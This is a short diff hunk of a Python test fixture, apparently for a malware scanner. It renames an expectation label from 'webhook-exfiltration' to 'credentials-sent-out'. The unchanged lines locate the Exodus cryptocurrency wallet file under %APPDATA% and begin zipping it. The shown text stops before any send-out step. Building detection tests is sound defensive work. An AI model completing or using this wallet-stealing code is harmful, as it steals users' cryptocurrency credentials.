@@ -1,4 +1,4 @@
-# expect: 7 webhook-exfiltration
+# expect: 7 credentials-sent-out
 import os, zipfile, requests
 src = os.path.expandvars('%APPDATA%\\Exodus\\exodus.wallet')
 with zipfile.ZipFile('w.zip', 'w') as z:
